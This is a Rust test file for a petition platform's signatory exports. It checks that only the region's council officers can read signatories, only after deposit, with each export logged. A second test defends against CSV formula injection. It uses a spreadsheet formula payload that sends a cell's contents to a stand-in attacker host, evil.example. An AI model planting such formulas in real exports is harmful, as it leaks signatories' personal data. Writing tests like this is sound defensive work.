//! Who reads a petition's signatories, and when: the council's officers of its region, once it
//! was deposited (role × region × status), by every path (domain, CSV, printable list); and the
//! CSV is safe to open in a spreadsheet.

use domain::DomainError;
use domain::petitions::lifecycle::ALL_STATUSES;
use domain::petitions::signatories::{ExportFormat, export_signatories};
use domain::petitions::signing::{self, NewSignature, SignatureForm};
use domain::roles::Role;
use http::StatusCode;
use tests::{Client, TestApp, TestResult, both_databases};

use super::{force_status, published};
use crate::accounts::deliver;

both_databases!(
    signatories_are_read_by_the_regions_officers_only_after_deposit,
    a_formula_in_a_name_stays_text_in_the_csv,
);

/// Signs petition `id` by email as `full_name`.
async fn sign_as(app: &TestApp, id: domain::types::PetitionId, full_name: &str, cin: &str) {
    let form = SignatureForm {
        full_name: full_name.into(),
        cin: cin.into(),
        province: "agadir-ida-outanane".into(),
        basis: "residence".into(),
        electoral_roll: true,
        consent: true,
        email: format!("{}@example.ma", cin.to_lowercase()),
        notify: false,
        lang: "fr".into(),
    };
    let signature = NewSignature::parse(&form).unwrap_or_else(|e| panic!("{e:?}"));
    signing::request_signature(&app.ctx(), id, signature, None, &Default::default())
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let sent = deliver(app).await;
    let token = sent
        .iter()
        .find_map(|m| m.text.split("/confirm?token=").nth(1))
        .and_then(|r| r.split_whitespace().next())
        .unwrap_or_default()
        .to_owned();
    signing::confirm_signature(&app.ctx(), &token)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
}

async fn signatories_are_read_by_the_regions_officers_only_after_deposit(
    app: TestApp,
) -> TestResult {
    let souss = app.region_id("souss-massa").await;
    let oriental = app.region_id("oriental").await;
    let id = published(&app, "souss-massa").await;
    sign_as(&app, id, "Youssef Amrani", "AB123456").await;
    let officer = app
        .staff(
            "officer@example.ma",
            Some(Role::CouncilOfficer { region_id: souss }),
        )
        .await;
    let others = [
        (
            "representative",
            app.actor(app.user("amina@example.ma").await).await,
        ),
        (
            "citizen",
            app.actor(app.user("karim@example.ma").await).await,
        ),
        (
            "moderator of the region",
            app.staff(
                "mod2@example.ma",
                Some(Role::Moderator { region_id: souss }),
            )
            .await,
        ),
        (
            "officer of another region",
            app.staff(
                "officer-oriental@example.ma",
                Some(Role::CouncilOfficer {
                    region_id: oriental,
                }),
            )
            .await,
        ),
        ("platform admin", app.admin().await),
    ];
    let mut web = Client::signed_in(&app, "officer@example.ma", "fr").await;
    let csv = format!("/files/petitions/{}/signatories.csv", id.0);
    let printable = format!("/fr/r/souss-massa/petitions/{}/signatories", id.0);
    for status in ALL_STATUSES {
        force_status(&app, id, status).await;
        for format in [ExportFormat::Csv, ExportFormat::Printable] {
            for (who, actor) in &others {
                assert!(
                    matches!(
                        export_signatories(&app.ctx(), actor, id, format).await,
                        Err(DomainError::Forbidden)
                    ),
                    "{who} in {status:?}"
                );
            }
            let officers = export_signatories(&app.ctx(), &officer, id, format).await;
            if status.was_deposited() {
                let list = officers
                    .unwrap_or_else(|e| panic!("{status:?}: {e}"))
                    .all()
                    .await?;
                assert_eq!(list.len(), 1, "{status:?}");
                assert_eq!(list[0].cin, "AB123456");
            } else {
                assert!(
                    matches!(
                        officers,
                        Err(DomainError::Conflict("petition_not_deposited"))
                    ),
                    "{status:?}"
                );
            }
        }
        let file = web.get(&csv).await;
        let page = web.get(&printable).await;
        if status.was_deposited() {
            assert_eq!(file.status, StatusCode::OK, "{status:?}");
            assert!(file.text().contains("AB123456"));
            assert!(page.text().contains("AB123456"), "{status:?}");
        } else {
            assert_eq!(file.status, StatusCode::CONFLICT, "{status:?}");
            assert!(!file.text().contains("AB123456"));
            assert!(!page.text().contains("AB123456"), "{status:?}");
        }
    }
    // Only the exports that showed the list are in the audit log.
    use domain::entities::audit_entry;
    use sea_orm::EntityTrait;
    let exports = audit_entry::Entity::find()
        .all(&app.db)
        .await
        .unwrap_or_default()
        .into_iter()
        .filter(|e| e.action == "signatories_exported")
        .count();
    let deposited = ALL_STATUSES.iter().filter(|s| s.was_deposited()).count();
    assert_eq!(exports, deposited * 4);
    Ok(())
}

async fn a_formula_in_a_name_stays_text_in_the_csv(app: TestApp) -> TestResult {
    let souss = app.region_id("souss-massa").await;
    let id = published(&app, "souss-massa").await;
    let formula = r#"=HYPERLINK("https://evil.example/?"&B2,"x")"#;
    sign_as(&app, id, formula, "AB123456").await;
    sign_as(&app, id, "@SUM(1+1)", "AB654321").await;
    force_status(&app, id, domain::petitions::PetitionStatus::Deposited).await;
    app.staff(
        "officer@example.ma",
        Some(Role::CouncilOfficer { region_id: souss }),
    )
    .await;
    let mut web = Client::signed_in(&app, "officer@example.ma", "fr").await;
    let file = web
        .get(&format!("/files/petitions/{}/signatories.csv", id.0))
        .await;
    assert_eq!(file.status, StatusCode::OK);
    let text = file.text();
    let mut reader =
        csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let names: Vec<String> = reader
        .records()
        .map(|r| r.unwrap_or_else(|e| panic!("{e}"))[0].to_owned())
        .collect();
    assert_eq!(names, [format!("'{formula}"), "'@SUM(1+1)".to_owned()]);
    Ok(())
}
